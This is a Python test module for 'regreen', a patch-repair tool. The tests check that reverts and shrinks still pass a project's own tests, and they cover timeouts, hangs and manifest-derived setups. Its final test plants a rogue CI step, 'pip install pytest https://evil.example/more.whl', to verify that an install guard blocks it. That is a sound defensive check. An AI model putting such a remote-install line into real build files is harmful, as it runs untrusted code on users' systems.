"""A lone check made green is not enough: what the project's own tests hold has to hold with the patch too."""

from __future__ import annotations

import json
import re
import shutil
import time
from collections.abc import Iterable
from pathlib import Path
from threading import Event
from typing import Any

import pytest
from click.testing import CliRunner

from regreen.cli import cli
from regreen.domain.job_control import StopCondition
from regreen.domain.models import BoxLimits, DoctorCheck, EnvSpec, PreparedEnv
from regreen.domain.ports import Box, Sandbox
from regreen.gate.suite import ProjectSuite, find_suite
from regreen.packages.setup_guard import InstallPolicy
from regreen.runs.trial import Trial
from tests.unit.repairs import GREEN, SETUP, Repository, sandbox_or_skip

pytestmark = pytest.mark.sandbox
CALM = "def shout(text):\n    return text.upper()\n"
LOUD = "def shout(text):\n    return text.upper() + '!'\n"
CHECK = "from pkg.say import shout\n\nassert shout('hi') == 'HI', shout('hi')\n"


@pytest.fixture
def repository(tmp_path: Path) -> Repository:
    sandbox_or_skip()
    made = Repository(tmp_path / "repo")
    made.commit("start", {**GREEN, "pkg/say.py": CALM})
    made.commit("shout louder", {"pkg/say.py": LOUD})
    (tmp_path / "check.py").write_text(CHECK)
    return made


def head(repository: Repository) -> str:
    return repository.open().resolve("HEAD")


def wants(text: str) -> dict[str, str]:
    return {
        "tests/test_say.py": f"from pkg.say import shout\n\n\ndef test_shout():\n    assert shout('hi') == {text!r}\n"
    }


def reverted(repository: Repository) -> dict[str, Any]:
    return fixed(repository, "--rungs", "revert")


def fixed(repository: Repository, *more: str) -> dict[str, Any]:
    check = repository.path.parent / "check.py"
    argv = ["fix", "--repo", str(repository.path), "--setup", SETUP, "--overlay", str(check), *more,
            "--format", "json", "--", "python", "check.py"]  # fmt: skip
    done = CliRunner().invoke(cli, argv, standalone_mode=False, catch_exceptions=False)
    document: dict[str, Any] = json.loads(done.stdout)
    return {**document, "progress": done.stderr}


def suite_beside_check(
    repository: Repository,
    rev: str,
    configured: Trial,
    sandbox: Sandbox | None = None,
    seconds: float = 600,
) -> ProjectSuite:
    """The project's tests as configured, beside a failing check that is none of them."""
    suite = find_suite(
        Trial(("python", "check.py")), rev, configured=configured, outcomes={}, git=repository.open(),
        sandbox=sandbox or sandbox_or_skip(), stop=StopCondition(time.monotonic() + seconds),
    )  # fmt: skip
    assert suite is not None
    return suite


def told(document: dict[str, Any]) -> list[str]:
    return [one["detail"] for one in document["gate"]["reasons"] if one["check"] == "suite"]


def test_a_revert_that_breaks_a_test_of_the_project_is_refused(repository: Repository) -> None:
    repository.commit("hold the volume", wants("HI!"))
    document = fixed(repository, "--base", "HEAD~2", "--rungs", "revert,shrink")
    assert (document["outcome"], document["patch"]) == ("denied", None)
    # the same lines again would be refused again
    tried = document["attempts"][-1]
    assert (tried["rung"], tried["outcome"]) == ("shrink", "skipped")
    said = ("trying revert: reverted", "comparing the project's own tests", "looking for the parts")
    assert all(line in document["progress"] for line in said)
    assert "passed before, failed now: tests/test_say.py::test_shout" in told(document)[0]


@pytest.mark.slow
def test_a_revert_that_breaks_none_says_how_many_hold(repository: Repository) -> None:
    repository.commit(
        "one more", {"tests/test_len.py": "def test_len():\n    assert len('ab') == 2\n"}
    )
    document = reverted(repository)
    # a person has to agree all the same: the command is no test of the project's
    assert (document["outcome"], document["rung"]) == ("needs_human", "revert")
    assert told(document)[0].startswith("4 tests that passed before still pass")


def test_where_the_own_tests_cannot_run_a_person_has_to_agree(repository: Repository) -> None:
    repository.commit("configure", {".github/regreen.yml": "tests: {command: nothing-of-the-kind}\n",
                                    "tests/test_calc.py": None})  # fmt: skip
    document = reverted(repository)
    assert (document["outcome"], document["rung"]) == ("needs_human", "revert")
    assert told(document)[0].startswith("only the failing step was held against it")


NO_SUCH = "from pkg.calc import no_such\n\n\ndef test_it():\n    assert no_such\n"


@pytest.mark.parametrize("is_whole", [True, False])
def test_files_that_only_the_patch_lets_collect_leave_no_gap(
    repository: Repository, *, is_whole: bool
) -> None:
    broken = {"pkg/say.py": "from pkg.calc import gone\n", **wants("HI")}
    more = {} if is_whole else {"tests/test_other.py": NO_SUCH}
    red = repository.commit("break the import", {**broken, **more})
    mended = repository.commit("mend it", {"pkg/say.py": CALM})
    suite = find_suite(
        Trial(("python", "-m", "pytest", "-q", "tests"), setup=SETUP), red, configured=None, outcomes={},
        git=repository.open(), sandbox=sandbox_or_skip(), stop=StopCondition(time.monotonic() + 600), has_gaps=True,
    )  # fmt: skip
    assert suite is not None
    held = suite.compare_patch(mended, {})
    assert (held.why, held.broken) == ("", ())
    assert held.kept > 0
    assert held.is_part != is_whole


@pytest.mark.soak
def test_where_the_own_tests_do_not_end_with_the_patch_a_person_has_to_agree(
    repository: Repository,
) -> None:
    # 16 of 40 seconds before, so that a busy machine could be the reason; without the loudness they wait for ever
    wait = "import time\n\nfrom pkg.say import shout\n\n\ndef test_wait():\n    time.sleep(16)\n    while not shout('').endswith('!'):\n        pass\n"
    red = repository.commit("wait for it", {"tests/test_wait.py": wait})
    calm = repository.commit("calm again", {"pkg/say.py": CALM})
    slow = Trial(("python", "-m", "pytest", "-q"), setup=SETUP, timeout=40)
    suite = suite_beside_check(repository, red, slow)
    held = suite.compare_patch(calm, {})
    assert "take longer than 40 seconds, before 1" in held.why


def test_quick_tests_that_hang_with_the_patch_are_not_waited_for_to_the_end(
    repository: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("regreen.gate.suite._MIN_HANG_SECONDS", 3.0)
    wait = "from pkg.say import shout\n\n\ndef test_wait():\n    while not shout('').endswith('!'):\n        pass\n"
    red = repository.commit("wait for it", {"tests/test_wait.py": wait})
    calm = repository.commit("calm again", {"pkg/say.py": CALM})
    patient = Trial(("python", "-m", "pytest", "-q"), setup=SETUP, timeout=200)
    suite = suite_beside_check(repository, red, patient)
    assert suite.run_baseline() is not None
    began = time.monotonic()
    assert suite.compare_patch(calm, {}).broken == (
        "they do not come to their end with the patch: timeout",
    )
    assert time.monotonic() - began < patient.timeout


def test_tests_that_ended_at_their_first_failure_do_not_say_how_long_all_take(
    repository: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("regreen.gate.suite._MIN_HANG_SECONDS", 2.0)
    more = "import time\n\n\ndef test_wait():\n    time.sleep(6)\n"
    red = repository.commit("be louder", {**wants("HI"), "tests/test_wait.py": more})
    calm = repository.commit("calm again", {"pkg/say.py": CALM})
    patient = Trial(("python", "-m", "pytest", "-q", "-x"), setup=SETUP, timeout=100)
    suite = suite_beside_check(repository, red, patient)
    held = suite.compare_patch(calm, {})
    assert (held.why, held.broken) == ("", ())
    assert held.kept > 0


@pytest.mark.soak
def test_of_a_culprit_that_tests_want_the_guilty_lines_alone_are_undone(
    repository: Repository,
) -> None:
    then = "def shout(text):\n    return text.upper()\n\n\n# one\n# two\n# three\n\n\ndef ends():\n    return ''\n"
    loud = then.replace("upper()", "upper() + '!'").replace("''", "'!'")
    repository.commit("calm again", {"pkg/say.py": then})
    repository.commit("end and shout", {"pkg/say.py": loud})
    wanted = "from pkg.say import ends\n\n\ndef test_end():\n    assert ends() == '!'\n"
    repository.commit("hold the end", {"tests/test_end.py": wanted})
    document = fixed(repository, "--base", "HEAD~2", "--rungs", "revert")
    assert (document["outcome"], document["rung"]) == ("needs_human", "revert")
    assert [one["outcome"] for one in document["attempts"]][:2] == ["denied", "needs_human"]
    assert "return ''" not in document["patch"]


@pytest.mark.soak
def test_of_a_culprit_two_places_are_undone_where_one_is_not_enough(
    repository: Repository,
) -> None:
    then = "END = ''\n\n\n# one\n\n\ndef shout(text):\n    return text.upper() + END\n\n\n# two\n\n\ndef ends():\n    return '?'\n"
    loud = then.replace("END = ''", "END = '!'").replace("+ END", "+ END + '!'")
    repository.commit("calm again", {"pkg/say.py": then})
    repository.commit("end and shout", {"pkg/say.py": loud.replace("'?'", "'??'")})
    wanted = "from pkg.say import ends\n\n\ndef test_end():\n    assert ends() == '??'\n"
    repository.commit("hold the end", {"tests/test_end.py": wanted})
    document = fixed(repository, "--base", "HEAD~2", "--rungs", "revert")
    assert (document["outcome"], document["rung"]) == ("needs_human", "revert")
    assert "'?'" not in document["patch"]


@pytest.mark.soak
def test_where_the_smallest_part_is_wanted_another_is_taken_back(repository: Repository) -> None:
    then = (
        "END = ''\n\n\ndef shout(text):\n    return text.upper()\n\n\ndef ends():\n    return END\n"
    )
    repository.commit("calm again", {"pkg/say.py": then})
    loud = then.replace("''", "'!'").replace(
        "    return text.upper()\n", "    text = text.upper()\n    return text + END\n"
    )
    wanted = "from pkg.say import ends\n\n\ndef test_end():\n    assert ends() == '!'\n"
    repository.commit("end", {"pkg/say.py": loud, "tests/test_end.py": wanted})
    document = fixed(repository, "--base", "HEAD~1", "--rungs", "shrink")
    assert (document["outcome"], document["rung"]) == ("needs_human", "shrink")
    assert [one["outcome"] for one in document["attempts"]][:2] == ["denied", "needs_human"]
    assert "END = ''" not in document["patch"]


@pytest.mark.soak
def test_of_one_hunk_the_lines_are_undone_that_the_tests_do_not_want(
    repository: Repository,
) -> None:
    then = "END = ''\nSIGN = '-'\nLIMIT = 2\nSTEP = 1\nSIZE = 4\nMARK = ''\n\n\ndef shout(text):\n    return text.upper() + MARK\n\n\ndef ends():\n    return END\n"
    repository.commit("calm again", {"pkg/say.py": then})
    loud = "END = '!'\nSIGN = '+'\nLIMIT = 3\nSTEP = 2\nSIZE = 5\nMARK = END\n"
    wanted = "from pkg.say import ends\n\n\ndef test_end():\n    assert ends() == '!'\n"
    repository.commit("end", {"pkg/say.py": loud + then.partition("MARK = ''\n")[2], "tests/test_end.py": wanted})  # fmt: skip
    document = fixed(repository, "--base", "HEAD~1", "--rungs", "shrink")
    assert (document["outcome"], document["rung"]) == ("needs_human", "shrink")
    assert [one["outcome"] for one in document["attempts"]][:2] == ["denied", "needs_human"]
    assert document["patch"].count("\n-") == document["patch"].count("\n+MARK = ''") + 1


@pytest.mark.soak
def test_the_configured_command_is_what_counts(repository: Repository) -> None:
    repository.commit("configure", {".github/regreen.yml": "tests: {command: sh strict.sh}\n",
                                    "strict.sh": "grep -q '!' pkg/say.py\n"})  # fmt: skip
    document = reverted(repository)
    assert document["outcome"] == "denied"
    assert "(sh strict.sh): green before, exit 1 now" in told(document)[0]


def test_tests_that_take_too_long_are_left_out_and_that_is_said(repository: Repository) -> None:
    slow = Trial(("bash", "-c", "sleep 60"), timeout=1)
    suite = suite_beside_check(repository, head(repository), slow)
    assert "take longer than 1 seconds" in suite.compare_patch(head(repository), {}).why


def test_tests_of_which_none_passes_before_say_nothing_of_a_patch(repository: Repository) -> None:
    red = repository.commit("red", {"tests/test_calc.py": None, **wants("HI?")})
    alone = Trial(("python", "-m", "pytest", "-q", "tests/test_say.py"), setup=SETUP)
    suite = suite_beside_check(repository, red, alone)
    why = suite.compare_patch(red, {}).why
    assert why.startswith("none of the project's own tests (python -m pytest -q ")
    assert "passes without the patch: exit 1: " in why


def test_a_setup_that_takes_too_long_is_left_out_and_is_no_fault_of_the_patch(
    repository: Repository,
) -> None:
    red = head(repository)
    slow = Trial(
        ("true",), setup="test -f new.txt && sleep 60 || true; : pkg/say.py", setup_timeout=2
    )
    suite = suite_beside_check(repository, red, slow)
    assert suite.run_baseline() is not None
    later = repository.commit("slower", {"new.txt": "", "pkg/say.py": CALM})
    held = suite.compare_patch(later, {})
    assert held.broken == ()
    assert "the setup took too long (2 seconds)" in held.why


class Hearing:
    """The real sandbox, each setup, and how long it was given."""

    def __init__(self, real: Sandbox) -> None:
        self.real = real
        self.name = real.name
        self.limits: list[float] = []
        self.setups: list[str] = []

    def prepare(
        self, spec: EnvSpec, tree: Iterable[bytes], cancel: Event | None = None
    ) -> PreparedEnv:
        self.limits.append(spec.timeout_s)
        self.setups.append(spec.setup or "")
        return self.real.prepare(spec, tree, cancel)

    def open(self, env: PreparedEnv, tree: Iterable[bytes], limits: BoxLimits | None = None) -> Box:
        return self.real.open(env, tree, limits)

    def pythons(self) -> tuple[str, ...]:
        return self.real.pythons()

    def doctor(self) -> list[DoctorCheck]:
        return self.real.doctor()


def test_a_setup_for_the_tests_may_take_half_of_the_time_that_is_left(
    repository: Repository,
) -> None:
    sandbox = Hearing(sandbox_or_skip())
    configured = Trial(("true",), setup="true")
    suite = suite_beside_check(repository, head(repository), configured, sandbox, seconds=200)
    suite.run_baseline()
    assert 80 < sandbox.limits[0] <= 100


@pytest.mark.soak
def test_tests_beyond_the_time_are_not_run_and_the_first_ones_count(
    repository: Repository,
) -> None:
    crawl = "import time\n\nimport pytest\n\n\n@pytest.mark.parametrize('n', range(99))\ndef test_crawl(n):\n    time.sleep(2)\n"
    red = repository.commit("crawl", {"tests/test_zzz.py": crawl})
    slow = Trial(("python", "-m", "pytest", "-q"), setup=SETUP, timeout=40)
    suite = suite_beside_check(repository, red, slow)
    held = suite.compare_patch(red, {})
    assert (held.why, held.broken) == ("", ())
    assert 3 <= held.kept < 25
    assert "those that ran within 30 seconds" in held.command


@pytest.mark.parametrize(
    ("command", "heard", "whole"),
    [("pytest -q", {}, True), ("pytest tests/test_say.py", {}, False), ("make test", {"test_a": "passed"}, True),
     ("make lint", {}, False), ("tox -e py", {"test_a": "passed"}, True), ("npm test", {}, True),
     ("python -m unittest discover -v", {}, True), ("python -m unittest tests.test_say", {}, False),
     ("cd sub && pytest tests/test_say.py::test_a", {"test_a": "passed"}, False)],
)  # fmt: skip
def test_a_command_that_is_all_the_tests_needs_no_others(
    repository: Repository, command: str, heard: dict[str, str], *, whole: bool
) -> None:
    found = find_suite(
        Trial(("bash", "-c", command)), head(repository), configured=None, outcomes=heard, git=repository.open(),
        sandbox=sandbox_or_skip(), stop=StopCondition(time.monotonic() + 600),
    )  # fmt: skip
    assert (found is None) == whole


PACKAGE = '{"name": "say", "version": "1.0.0", "scripts": {"test": "node --test"}}'
NODE = {
    "package.json": PACKAGE, "say.js": "exports.shout = (text) => text + '!'\n",
    "test/say.test.js": "require('node:test')('shout', () => require('node:assert').equal(require('../say.js').shout('a'), 'a!'))\n",
}  # fmt: skip
RUST = {
    "Cargo.toml": '[package]\nname = "say"\nversion = "1.0.0"\nedition = "2021"\n',
    "Cargo.lock": 'version = 3\n\n[[package]]\nname = "say"\nversion = "1.0.0"\n',
    "src/lib.rs": 'pub fn shout(text: &str) -> String { format!("{text}!") }\n',
    "tests/say.rs": '#[test]\nfn shouts() { assert_eq!(say::shout("a"), "a!"); }\n',
}

RUST_INLINE = {
    "Cargo.toml": RUST["Cargo.toml"],
    "Cargo.lock": RUST["Cargo.lock"],
    "src/lib.rs": RUST["src/lib.rs"]
    + '#[cfg(test)]\nmod tests {\n    #[test]\n    fn shouts() { assert_eq!(super::shout("a"), format!("a{}", 33 as char)); }\n}\n',
}


@pytest.mark.parametrize(
    ("tool", "files", "source", "fails"),
    [
        ("npm", NODE, "say.js", "shout"),
        ("cargo", RUST, "src/lib.rs", "shouts"),
        ("cargo", RUST_INLINE, "src/lib.rs", "shouts"),
    ],
)
def test_the_tests_of_another_language_are_found_from_its_manifest(
    tmp_path: Path, tool: str, files: dict[str, str], source: str, fails: str
) -> None:
    if shutil.which(tool) is None:
        pytest.skip(f"{tool} is not installed")
    made = Repository(tmp_path / "repo")
    red = made.commit("start", files)
    worse = made.commit("no shouting", {source: re.sub("!(?=[\"'])", "?", files[source])})
    same = made.commit("loud again", {source: files[source] + "\n"})
    suite = find_suite(
        Trial(("sh", "check.sh")), red, configured=None, outcomes={}, git=made.open(),
        sandbox=sandbox_or_skip(), stop=StopCondition(time.monotonic() + 600),
    )  # fmt: skip
    assert suite is not None
    held = suite.compare_patch(same, {})
    assert (held.why, held.broken, held.is_part) == ("", (), False)
    assert fails in suite.compare_patch(worse, {}).broken[0]


WORKFLOW = """on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: python -m ensurepip
      - run: python -m pip install -q pytest
      - run: python -m pytest -q
"""


def bare_suite(repository: Repository, red: str, sandbox: Sandbox, **more: Any) -> ProjectSuite:
    """The suite of a trial without pip, which the test runner's own installation needs."""
    suite = find_suite(
        Trial(("python", "check.py"), setup="python -m pip uninstall -q -y pip", **more), red,
        configured=None, outcomes={}, git=repository.open(),
        sandbox=sandbox, stop=StopCondition(time.monotonic() + 600),
    )  # fmt: skip
    assert suite is not None
    return suite


def test_a_suite_that_its_own_tools_cannot_prepare_is_prepared_as_the_manifests_say(
    repository: Repository,
) -> None:
    red = repository.commit("hold it", {**wants("HI!"), ".github/workflows/ci.yml": WORKFLOW})
    calm = repository.commit("calm again", {"pkg/say.py": CALM})
    held = bare_suite(repository, red, sandbox_or_skip()).compare_patch(calm, {})
    assert (held.why, held.kept) == ("", 3)
    assert "tests/test_say.py::test_shout" in held.broken[0]


def test_a_suite_that_is_prepared_as_the_manifests_say_runs_in_their_interpreter(
    repository: Repository,
) -> None:
    sandbox = sandbox_or_skip()
    if "3.8" not in sandbox.pythons():
        pytest.skip("boxes have no Python 3.8 here")
    version = "      - uses: actions/setup-python@v5\n        with: {python-version: '3.8'}\n"
    old = "import sys\n\n\ndef test_version():\n    assert sys.version_info[:2] == (3, 8)\n"
    workflow = WORKFLOW.replace("    steps:\n", f"    steps:\n{version}")
    red = repository.commit("old", {"tests/test_old.py": old, ".github/workflows/ci.yml": workflow})
    held = bare_suite(repository, red, sandbox).compare_patch(red, {})
    assert (held.why, held.broken, held.kept) == ("", (), 4)


def test_the_setup_guard_judges_how_the_manifests_say_that_tests_are_prepared(
    repository: Repository,
) -> None:
    rogue = WORKFLOW.replace("pytest\n", "pytest https://evil.example/more.whl\n", 1)
    red = repository.commit("hold it", {".github/workflows/ci.yml": rogue})
    sandbox = Hearing(sandbox_or_skip())
    rules = InstallPolicy(trusts_command=True)
    suite = bare_suite(repository, red, sandbox, trust="pull_request", rules=rules)
    assert suite.run_baseline() is None
    assert any("uv" in setup for setup in sandbox.setups)  # inferred, and harmless
    assert not any("evil.example" in setup for setup in sandbox.setups)
